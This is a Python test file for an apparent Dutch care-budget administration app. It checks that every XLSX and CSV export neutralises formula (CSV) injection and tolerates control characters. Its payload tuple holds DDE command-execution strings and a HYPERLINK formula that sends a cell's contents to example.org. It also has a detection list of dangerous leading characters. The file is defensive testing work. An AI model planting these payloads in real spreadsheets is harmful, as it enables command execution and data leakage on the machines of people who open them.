"""No export ever carries a formula made from what a user typed (OWASP CSV injection, ASVS
1.2.10). Formula-like text and DDE payloads go into every text field a user or an import can
fill (names, initials, identifiers, agreement numbers, notes, descriptions, reasons, decision
references, funder and product names, a username); then every export the app writes is made:
the SVB batch as XLSX (with its weekly totals) and CSV, the hours templates of one agreement
and of all holders a user acts for, a holder's exhaustion report and a municipality's report as
XLSX and CSV, and the evidence pack with its CSV members and the batch files in it.

No worksheet holds a formula cell (the app writes none on purpose: its totals are values, its
rules are data validations), no text cell or CSV field starts with = + - @, tab, CR, LF or NUL
(numbers aside), and the planted text is in every export that shows user text, neutralised with
a leading apostrophe. Text with characters XML cannot hold (control characters) is exported
without them instead of breaking the export."""

import csv
import io
import re
import zipfile
from datetime import date

import openpyxl

from contracts.models import AgreementVersion, CareAgreement, Provider
from declarations.imports.template import agreement_month_template, holders_month_template
from declarations.models import Expense, Finding, TimeEntry
from declarations.services import batches as batch_services
from declarations.services import declarations as declaration_services
from declarations.services import hours as hour_services
from pgb_admin.accounts.constants import MandateRole
from pgb_admin.accounts.models import User
from pgb_admin.budgets.models import Budget, BudgetHolder, CareProduct, Funder
from reports.evidence import evidence_pack

from .api.conftest import token_client
from .factories import (
    AgreementVersionFactory,
    BudgetFactory,
    BudgetHolderFactory,
    CareAgreementFactory,
    HolderProviderFactory,
    MandateFactory,
    ProviderFactory,
)

OCTOBER = date(2026, 10, 1)
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
)
# what a spreadsheet may take for the start of a formula: OWASP's list (with the line feed it
# added in 2025) and ASVS 1.2.10's NUL
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
#: formulas the app writes into worksheets itself (none: totals are values)
APP_FORMULAS: frozenset[str] = frozenset()
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
# characters XML 1.0 cannot hold; a user can type them in a note or a name
CONTROL_TEXT = "bel\x07 en \x01nul\x1f"


def _payload(index: int, max_length: int | None = None) -> str:
    text = PAYLOADS[index % len(PAYLOADS)]
    return text[:max_length] if max_length else text


def _plant(world) -> set[str]:
    """Formula-like text in every text field that reaches an export; the planted values."""
    actor = world.users["representative"]
    sibling = BudgetHolderFactory(first_name=_payload(1), initials=_payload(3), surname="Broer")
    budget = BudgetFactory(holder=sibling, funder=world.the_hague)
    sibling.funders.add(world.the_hague)
    provider = ProviderFactory(name=_payload(4))
    HolderProviderFactory(holder=sibling, provider=provider)
    agreement = CareAgreementFactory(holder=sibling, provider=provider)
    AgreementVersionFactory(agreement=agreement, budget=budget, product=budget.products.first())
    MandateFactory(user=actor, holder=sibling, role=MandateRole.REPRESENTATIVE)

    planted = {
        (BudgetHolder, world.mine.pk): {
            "initials": _payload(0, 20),
            "first_name": "",
            "surname": _payload(2),
            "svb_client_number": _payload(3, 9),
        },
        (Provider, world.mine_provider.pk): {
            "name": _payload(1),
            "account_holder": _payload(0),
            "agb_code": _payload(2, 8),
            "kvk_number": _payload(3, 8),
        },
        (CareAgreement, world.mine_wmo_agreement.pk): {"svb_agreement_number": _payload(0, 20)},
        (CareAgreement, world.mine_wlz_agreement.pk): {"svb_agreement_number": _payload(2, 20)},
        (Budget, world.mine_wmo_budget.pk): {"decision_reference": _payload(1)},
        (Funder, world.the_hague.pk): {"name": _payload(0)},
        (User, actor.pk): {"username": _payload(2), "first_name": _payload(3)},
    }
    for version in AgreementVersion.objects.filter(agreement__holder__in=[world.mine, sibling]):
        planted[AgreementVersion, version.pk] = {"change_reason": _payload(5)}
        planted[CareProduct, version.product_id] = {
            "name_nl": _payload(4),
            "name_en": _payload(4),
        }
    for (model, pk), fields in planted.items():
        model.objects.filter(pk=pk).update(**fields)
    actor.refresh_from_db()

    for number, agreement_id in enumerate(
        [world.mine_wmo_agreement.pk, world.mine_wlz_agreement.pk, agreement.pk]
    ):
        hour_services.time_entries_fill_month(
            actor=actor, agreement_id=agreement_id, month=OCTOBER, pattern={0: "4", 3: "4"}
        )
        for index, entry in enumerate(TimeEntry.objects.filter(agreement_id=agreement_id)):
            entry.note = _payload(index + number)
            entry.save(update_fields=["note"])
        hour_services.expense_add(
            actor=actor,
            agreement_id=agreement_id,
            expense_date=date(2026, 10, 6),
            kind="other",
            amount="12.50",
            description=_payload(number + 5),
        )
    texts = {value for fields in planted.values() for value in fields.values() if value}
    texts |= set(TimeEntry.objects.values_list("note", flat=True))
    texts |= set(Expense.objects.values_list("description", flat=True))
    return texts


def _export_month(world) -> list:
    """Draft, validate (acknowledging every warning with formula-like reasons) and export
    October of the holder ``mine``; the declarations."""
    actor = world.users["representative"]
    declarations = [
        declaration_services.declaration_draft(
            actor=actor, agreement_id=agreement.pk, month=OCTOBER
        )
        for agreement in (world.mine_wmo_agreement, world.mine_wlz_agreement)
    ]
    declaration_services.declaration_validate(
        actor=actor, declaration_ids=[d.pk for d in declarations]
    )
    for index, finding in enumerate(
        Finding.objects.filter(declaration__in=declarations, severity="warning")
    ):
        declaration_services.finding_acknowledge(
            actor=actor, finding_id=finding.pk, reason=_payload(index)
        )
    batch = batch_services.batch_export(actor=actor, month=OCTOBER, holder_id=world.mine.pk)
    assert batch.declarations.count() == 2, batch.skipped
    return declarations


def _files(world) -> dict[str, bytes]:
    """Every export the app writes, by a name for the report."""
    declarations = _export_month(world)
    actor = world.users["representative"]
    batch = declarations[0]
    batch.refresh_from_db()
    api = token_client(actor)
    auditor = token_client(world.users["auditor_same"])
    files = {
        "batch.xlsx": api.get(f"/api/v1/batches/{batch.batch_id}/xlsx/"),
        "batch.csv": api.get(f"/api/v1/batches/{batch.batch_id}/csv/"),
        "exhaustion.xlsx": api.get(f"/api/v1/reports/holders/{world.mine.pk}/exhaustion/xlsx/"),
        "exhaustion.csv": api.get(f"/api/v1/reports/holders/{world.mine.pk}/exhaustion/csv/"),
        "municipality.xlsx": auditor.get("/api/v1/reports/municipalities/GM0518/xlsx/?year=2026"),
        "municipality.csv": auditor.get("/api/v1/reports/municipalities/GM0518/csv/?year=2026"),
    }
    for name, response in files.items():
        assert response.status_code == 200, (name, response.content[:500])
    files = {name: response.content for name, response in files.items()}
    files["template-agreement.xlsx"] = agreement_month_template(world.mine_wmo_agreement, OCTOBER)
    files["template-holders.xlsx"] = holders_month_template(actor=actor, month=OCTOBER)
    pack = evidence_pack(user=actor, declaration_id=declarations[0].pk)
    with zipfile.ZipFile(io.BytesIO(pack.content)) as archive:
        for member in archive.namelist():
            if member.endswith((".csv", ".xlsx")):
                files[f"evidence/{member}"] = archive.read(member)
    return files


def _xlsx_problems(content: bytes, planted: set[str]) -> tuple[list[str], int]:
    """Formula cells and text cells that start like a formula; and the cells with user text."""
    problems, user_cells = [], 0
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            sheet_xml = name.startswith("xl/worksheets/") and name.endswith(".xml")
            if sheet_xml and re.search(rb"<(\w+:)?f[ >/]", archive.read(name)):
                problems.append(f"{name}: a <f> element")
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" and str(value) not in APP_FORMULAS:
                    problems.append(f"{sheet.title}!{cell.coordinate}: formula {value!r}")
                elif isinstance(value, str):
                    if value.startswith(DANGEROUS):
                        problems.append(f"{sheet.title}!{cell.coordinate}: {value!r}")
                    user_cells += any(text in value for text in planted)
    return problems, user_cells


def _csv_problems(content: bytes, planted: set[str]) -> tuple[list[str], int]:
    problems, user_fields = [], 0
    text = content.decode("utf-8-sig")
    for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";")):
        for field in row:
            if field.startswith(DANGEROUS) and not NUMBER.fullmatch(field):
                problems.append(f"row {number}: {field!r}")
            user_fields += any(text in field for text in planted)
    return problems, user_fields


# the exports that show no user text at all: a holder's exhaustion CSV (ids, months, money)
# and the evidence pack's declaration lines (dates, quantities, money)
WITHOUT_USER_TEXT = {"exhaustion.csv", "evidence/declaration_lines.csv"}


def test_no_export_holds_a_formula_from_user_text(world, capsys):
    planted = _plant(world)
    files = _files(world)
    members = {name.rsplit(".", 1)[-1] for name in files if name.startswith("evidence/batch/")}
    assert members == {"xlsx", "csv"}  # the pack carries the batch files too
    report, formula_cells = {}, 0
    for name, content in sorted(files.items()):
        check = _xlsx_problems if name.endswith(".xlsx") else _csv_problems
        problems, user_cells = check(content, planted)
        formula_cells += len(problems)
        report[name] = (problems, user_cells)
    failing = {name: problems[:5] for name, (problems, _) in report.items() if problems}
    assert not failing, failing
    without_user_text = {name for name, (_, cells) in report.items() if not cells}
    assert without_user_text == WITHOUT_USER_TEXT
    with capsys.disabled():
        cells = sum(cells for _, cells in report.values())
        print(
            f"\nformula cells from user text: {formula_cells} in {len(files)} exports "
            f"({cells} cells and fields with planted formula-like text, all neutralised)"
        )


def test_text_with_control_characters_does_not_break_an_export(world):
    # a control character before a formula: left out, and the formula still neutralised
    Provider.objects.filter(pk=world.mine_provider.pk).update(name="\x01" + PAYLOADS[0])
    BudgetHolder.objects.filter(pk=world.mine.pk).update(surname=CONTROL_TEXT)
    actor = world.users["representative"]
    hour_services.time_entries_fill_month(
        actor=actor, agreement_id=world.mine_wmo_agreement.pk, month=OCTOBER, pattern={0: "4"}
    )
    TimeEntry.objects.update(note=CONTROL_TEXT)
    template = agreement_month_template(world.mine_wmo_agreement, OCTOBER)
    declaration = declaration_services.declaration_draft(
        actor=actor, agreement_id=world.mine_wmo_agreement.pk, month=OCTOBER
    )
    declaration_services.declaration_validate(actor=actor, declaration_ids=[declaration.pk])
    batch = batch_services.batch_export(actor=actor, month=OCTOBER, holder_id=world.mine.pk)
    xlsx = bytes(batch.files.get(format="xlsx").content)
    names = {
        cell.value
        for sheet in openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    }
    assert "'" + PAYLOADS[0] in names  # the provider, without the control character
    assert "A. bel en nul" in names  # the holder, without the control characters
    csv_text = bytes(batch.files.get(format="csv").content).decode("utf-8-sig")
    assert CONTROL_TEXT in csv_text  # CSV can hold them: kept as typed
    notes = {
        cell.value
        for row in openpyxl.load_workbook(io.BytesIO(template)).worksheets[0].iter_rows()
        for cell in row
    }
    assert "bel en nul" in notes
